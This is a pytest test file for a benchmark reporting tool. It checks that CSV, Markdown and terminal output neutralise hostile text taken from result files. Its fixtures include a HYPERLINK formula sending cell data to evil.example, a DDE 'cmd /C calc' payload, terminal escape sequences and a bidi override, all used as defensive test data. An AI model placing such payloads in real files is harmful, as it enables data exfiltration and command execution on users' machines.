"""Report cells are escaped (issue 23, item 13): text from bench results (a model id, a label, a platform, a reason)
reaches no terminal, Markdown table or CSV file as a control character, and no spreadsheet as a formula.

The hostile results are `vllm bench serve --save-result` JSON in a run directory, as a host could have written them;
`zenops report` runs through Click's CliRunner; the campaign report is built from the same files."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from zenops import report as lib
from zenops.campaign.report import CellOutcome, build_report
from zenops.cli.main import cli

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
OSC8_LINK = "\x1b]8;;http://evil.example/\x1b\\click me\x1b]8;;\x1b\\"
CLEAR_SCREEN = "\x1b[2J\x1b[H"
C1_CSI = "\x9b31m"  # a one-byte CSI
BIDI = "\u202eexe.txt"  # right-to-left override
ESCAPES = f"{OSC8_LINK}{CLEAR_SCREEN}{C1_CSI}{BIDI}\x07\x00\x7f"
HOSTILE_MODEL = f"tiny{ESCAPES}\nnext|row"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")  # newline and tab: see each test


def bench(model: str, tok_s: float, **extra: Any) -> dict[str, Any]:
    return {
        "model_id": model,
        "num_prompts": 8,
        "max_concurrency": 4,
        "duration": 10.0,
        "completed": 8,
        "failed": 0,
        "request_throughput": 0.8,
        "output_throughput": tok_s,
        "total_token_throughput": 2 * tok_s,
        "median_ttft_ms": 100.0,
        "mean_ttft_ms": 110.0,
        "p99_ttft_ms": 300.0,
        "median_tpot_ms": 20.0,
        "mean_tpot_ms": 21.0,
        "p99_tpot_ms": 40.0,
        **extra,
    }


@pytest.fixture
def runs(tmp_path: Path) -> tuple[Path, Path]:
    """A run directory with a formula model, a model full of escape sequences and a hostile manifest; and a
    baseline where the formula model was faster (its deltas are negative numbers)."""
    cur, base = tmp_path / "cur", tmp_path / "base"
    for d in (cur, base):
        d.mkdir()
    manifest = {"label": "@SUM(1+1)*cmd|' /C calc'!A0", "platform": f"+zen{CLEAR_SCREEN}", "price_per_hour": 1.0}
    (cur / "run.json").write_text(json.dumps(manifest))
    (cur / "a.json").write_text(json.dumps(bench(FORMULA, 100.0)))
    (cur / "b.json").write_text(json.dumps(bench(HOSTILE_MODEL, 50.0, flavor="-2+3")))
    (base / "run.json").write_text(json.dumps({"price_per_hour": 1.0}))
    (base / "a.json").write_text(json.dumps(bench(FORMULA, 125.0)))
    return cur, base


def report(*args: str) -> Result:
    r = CliRunner().invoke(cli, ["report", *args])
    assert r.exception is None or isinstance(r.exception, SystemExit), repr(r.exception)
    assert r.exit_code == 0, r.output
    return r


def no_controls(text: str, *, newlines: bool = True) -> None:
    found = CONTROL.findall(text) + ([] if newlines else re.findall("[\n\t]", text))
    assert found == [], f"control characters in the output: {found!r}"


# --- CSV ----------------------------------------------------------------------------------------------------------


def test_csv_neutralises_formulas_and_keeps_numbers_numbers(runs):
    cur, _ = runs
    r = report(str(cur), "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    formula = next(row for row in rows if "HYPERLINK" in row["model"])
    assert formula["model"] == "'" + FORMULA
    assert formula["label"].startswith("'@SUM")
    assert formula["platform"].startswith("'+zen")
    assert float(formula["output_throughput"]) == 100.0  # numbers stay numbers
    hostile = next(row for row in rows if row["model"].startswith("tiny"))
    assert hostile["flavor"] == "'-2+3"  # not a number: a formula to a spreadsheet
    no_controls(r.stdout)
    assert "\\x1b]8;;http://evil.example/" in hostile["model"]  # shown, not obeyed
    data = json.loads(report(str(cur), "--format", "json").stdout)
    assert {x["model"] for x in data["results"]} == {FORMULA, HOSTILE_MODEL}  # JSON: as they were, escaped by JSON


def test_comparison_csv_keeps_negative_changes_as_plain_numbers(runs):
    cur, base = runs
    r = report(str(cur), "--compare", str(base), "--format", "csv")
    (row,) = list(csv.DictReader(io.StringIO(r.stdout)))
    assert row["model"] == "'" + FORMULA
    assert row["output_throughput_pct"] == "-20.0"  # a negative number, no quote
    assert float(row["cost_pct"]) > 0


def test_campaign_csv_and_markdown_are_escaped(runs):
    cur, _ = runs
    results = lib.load([cur]).results
    cells = [
        CellOutcome("k1", "=1+1", f"{FORMULA}", "v", "failed", f"health-gate: {CLEAR_SCREEN}OOM\x1b[0m", None),
    ]
    rep = build_report(results, cells, max_tpot_ms=None, api_price=None)
    text = rep.csv()
    no_controls(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {row["model"] for row in rows} >= {"'" + FORMULA}
    md = rep.markdown()
    no_controls(md)
    assert "\\x1b[2J" in md  # the failed cell's reason, shown escaped
    for line in md.splitlines():  # every table row is still one line with its columns
        if line.startswith("| ") and "tiny" in line:
            assert "next\\|row" in line


# --- Markdown and the terminal table -----------------------------------------------------------------------------


def test_markdown_rows_keep_their_shape_and_carry_no_controls(runs):
    cur, base = runs
    r = report(str(cur), "--compare", str(base), "--format", "md")
    no_controls(r.stdout)
    rows = [line for line in r.stdout.splitlines() if "tiny" in line and line.startswith("|")]
    assert rows, r.stdout
    assert "Only in the report: tiny\\x1b]8;;" in r.stdout  # the comparison's note, escaped too
    for line in rows:
        assert line.startswith("| ")
        assert line.endswith(" |")
        assert "\\x0anext\\|row" in line  # the newline escaped (the row stays one line), the pipe too
        assert "\\x1b[2J" in line
        assert "\\u202e" in line


def test_the_terminal_table_and_its_warnings_carry_no_escape_sequences(runs, tmp_path):
    cur, _ = runs
    (cur / "c.json").write_text(json.dumps(bench(f"bad{CLEAR_SCREEN}", 10.0, completed=0, failed=8)))
    r = CliRunner().invoke(cli, ["report", str(cur), "--format", "table", "--allow-failed"])
    assert r.exit_code == 0, r.output
    no_controls(r.stdout)
    no_controls(r.stderr)
    assert "\\x1b" in r.stdout


# --- the escaping function --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "newlines", "expected"),
    [
        ("plain text, ünïcode", False, "plain text, ünïcode"),
        ("a\x1b[31mb", False, "a\\x1b[31mb"),
        ("a\x9bb\x85c", False, "a\\x9bb\\x85c"),
        ("a\tb\rc\x7f", False, "a\\x09b\\x0dc\\x7f"),
        ("a\nb", False, "a\\x0ab"),
        ("a\nb", True, "a\nb"),
        ("\u202eabc\u2066", True, "\\u202eabc\\u2066"),
    ],
)
def test_clean(text, newlines, expected):
    assert lib.clean(text, newlines=newlines) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "\\x09=1"),  # a leading tab or CR is escaped: it no longer leads
        ("\r=1", "\\x0d=1"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        (-12.5, -12.5),
        (7, 7),
        (None, ""),
        ("Qwen/Qwen3-0.6B", "Qwen/Qwen3-0.6B"),
    ],
)
def test_csv_cell(value, expected):
    assert lib.csv_cell(value) == expected
